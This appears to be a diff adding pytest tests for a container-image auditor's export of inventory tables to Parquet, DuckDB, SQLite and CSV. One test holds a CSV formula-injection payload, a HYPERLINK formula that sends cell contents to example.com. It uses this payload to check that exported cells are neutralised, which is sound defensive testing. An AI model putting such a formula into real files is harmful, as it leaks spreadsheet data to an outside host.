@@ -1,0 +1,193 @@
+"""Tables for other programs, read back by those programs."""
+
+from __future__ import annotations
+
+import csv
+import json
+import sqlite3
+from contextlib import closing
+from pathlib import Path
+from typing import Any
+
+import duckdb
+import pyarrow.parquet as pq  # type: ignore[import-untyped]
+import pytest
+
+from auditor.analysis.export.tables import TABLES
+from auditor.analysis.export.writers import Target, export
+from auditor.errors import OutputError, UsageError
+from tests.records import EVERYTHING, RECORDS, failure, image
+from tests.reports import write_report
+
+COUNTS = {"images": 2, "platforms": 5, "layers": 5, "failures": 2}  # of RECORDS
+
+
+@pytest.fixture
+def report(tmp_path: Path) -> str:
+    return write_report(tmp_path / "report.jsonl.gz", RECORDS)
+
+
+def csv_rows(path: Path) -> list[dict[str, str]]:
+    with path.open(newline="", encoding="utf-8") as lines:
+        return list(csv.DictReader(lines, strict=True))
+
+
+def test_parquet_is_read_by_another_library(report: str, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    export([report], target=Target.PARQUET, output=out, tables=TABLES)
+    assert {path.stem: pq.read_table(path).num_rows for path in out.iterdir()} == COUNTS
+    first, everything = pq.read_table(out / "images.parquet").to_pylist()
+    assert "platforms" not in first
+    assert everything["architectures"] == ["linux/amd64", "linux/arm64/v8"]
+    assert dict(everything["annotations"]) == EVERYTHING.annotations
+    assert everything["access"]["actions"] == ["pull"]
+    layers = pq.read_table(out / "layers.parquet").to_pylist()
+    assert [(row["position"], row["size"]) for row in layers[:2]] == [
+        (0, 100),
+        (1, 200),
+    ]
+
+
+def test_duckdb_is_one_whole_file(report: str, tmp_path: Path) -> None:
+    out = tmp_path / "inventory.duckdb"
+    export([report], target=Target.DUCKDB, output=out, tables=TABLES)
+    assert sorted(tmp_path.iterdir()) == sorted([out, Path(report)])
+    with duckdb.connect(out, read_only=True) as database:
+        for name, count in COUNTS.items():
+            assert len(database.table(name).fetchall()) == count
+        found = database.execute("SELECT architectures[2] FROM images").fetchall()
+        assert found == [(None,), ("linux/arm64/v8",)]
+
+
+def test_sqlite_holds_texts_and_numbers(report: str, tmp_path: Path) -> None:
+    out = tmp_path / "inventory.sqlite"
+    export([report], target=Target.SQLITE, output=out, tables=TABLES)
+    with closing(sqlite3.connect(out)) as database:
+        assert database.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
+        found = database.execute(
+            "SELECT (SELECT count(*) FROM images), (SELECT count(*) FROM platforms),"
+            " (SELECT count(*) FROM layers), (SELECT count(*) FROM failures)"
+        ).fetchall()
+        assert found == [tuple(COUNTS.values())]
+        row = database.execute(
+            "SELECT architectures, json_extract(access, '$.actions[0]'), size,"
+            " typeof(schema_version) FROM images"
+        ).fetchone()
+        assert row == ("linux/amd64", "pull", 300, "integer")
+        assert database.execute("SELECT annotations FROM images").fetchall()[1] == (
+            json.dumps(EVERYTHING.annotations, ensure_ascii=False).replace(" ", "")
+            .replace("\\u001b", "\\u001B"),
+        )  # fmt: skip
+
+
+def test_csv_is_read_by_the_csv_module(report: str, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    export([report], target=Target.CSV, output=out, tables=TABLES)
+    assert {path.stem: len(csv_rows(path)) for path in out.iterdir()} == COUNTS
+    first, everything = csv_rows(out / "images.csv")
+    assert (first["tag"], first["size"], first["artifact_type"]) == ("1", "300", "")
+    assert everything["architectures"] == "linux/amd64 linux/arm64/v8"
+    assert json.loads(everything["warnings"])[0]["code"] == "child_missing"
+    assert json.loads(everything["annotations"]) == EVERYTHING.annotations
+
+
+@pytest.mark.parametrize(
+    "start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "\uff0b"]
+)
+def test_csv_has_no_formulas(start: str, tmp_path: Path) -> None:
+    hostile = f'{start}HYPERLINK("http://example.com/?"&A1)'
+    report = write_report(
+        tmp_path / "r",
+        [
+            image(
+                tag=hostile, architectures=(hostile,), annotations={hostile: hostile}
+            ),
+            failure(reference=hostile, detail=hostile),
+        ],
+    )
+    out = tmp_path / "out"
+    export([report], target=Target.CSV, output=out, tables=TABLES)
+    (row,) = csv_rows(out / "images.csv")
+    assert row["tag"] == row["architectures"] == f"'{hostile}"
+    assert json.loads(row["annotations"]) == {hostile: hostile}
+    assert csv_rows(out / "failures.csv")[0]["detail"] == f"'{hostile}"
+    cells = [
+        cell
+        for path in out.iterdir()
+        for row in csv_rows(path)
+        for cell in row.values()
+    ]
+    assert not [
+        cell for cell in cells if cell.lstrip("\t\r\n ")[:1] in tuple("=+-@\uff1d")
+    ]
+
+
+@pytest.mark.parametrize("target", Target)
+def test_an_empty_report_makes_empty_tables(target: Target, tmp_path: Path) -> None:
+    report = write_report(tmp_path / "r", [])
+    export([report], target=target, output=tmp_path / "out", tables=TABLES)
+    assert (tmp_path / "out").exists()
+
+
+def test_only_the_tables_that_are_asked_for(report: str, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    export([report], target=Target.CSV, output=out, tables=["layers"])
+    assert [path.name for path in out.iterdir()] == ["layers.csv"]
+
+
+@pytest.mark.parametrize("target", Target)
+def test_what_is_there_is_replaced_only_by_force(
+    target: Target, report: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "out"
+    other = out / "other" if target in {Target.CSV, Target.PARQUET} else None
+    arguments: dict[str, Any] = {"target": target, "output": out, "tables": ["images"]}
+    export([report], **arguments)
+    if other:
+        other.write_text("mine")
+    empty = write_report(tmp_path / "empty", [])
+    with pytest.raises(UsageError, match="exists; --force replaces it"):
+        export([empty], **arguments)
+    written = out / f"images.{target}" if other else out
+    before = written.read_bytes()
+    export([empty], force=True, **arguments)
+    assert written.read_bytes() != before
+    assert other is None or other.read_text() == "mine"
+
+
+@pytest.mark.parametrize("target", Target)
+def test_a_damaged_report_leaves_nothing_and_replaces_nothing(
+    target: Target, tmp_path: Path
+) -> None:
+    report = tmp_path / "r.jsonl"
+    write_report(report, [image()] * 3)
+    report.write_bytes(report.read_bytes()[:-9])
+    out = tmp_path / "out"
+    folder = target in {Target.CSV, Target.PARQUET}
+    old = out / f"layers.{target}" if folder else out
+    old.parent.mkdir(exist_ok=True)
+    old.write_text("old")
+    with pytest.raises(UsageError, match="the line is cut off"):
+        export([str(report)], target=target, output=out, tables=["layers"], force=True)
+    assert old.read_text() == "old"
+    assert list(old.parent.glob("*.partial*")) == []
+
+
+@pytest.mark.parametrize("target", Target)
+def test_a_place_that_cannot_be_written_is_told(
+    target: Target, report: str, tmp_path: Path
+) -> None:
+    (tmp_path / "file").write_text("")
+    with pytest.raises(OutputError, match=str(tmp_path)):
+        export([report], target=target, output=tmp_path / "file" / "out", tables=TABLES)
+
+
+@pytest.mark.parametrize("target", [Target.DUCKDB, Target.SQLITE])
+def test_a_folder_is_never_replaced_by_a_file(
+    target: Target, report: str, tmp_path: Path
+) -> None:
+    (tmp_path / "out").mkdir()
+    with pytest.raises(UsageError, match="exists"):
+        export(
+            [report], target=target, output=tmp_path / "out", tables=TABLES, force=True
+        )
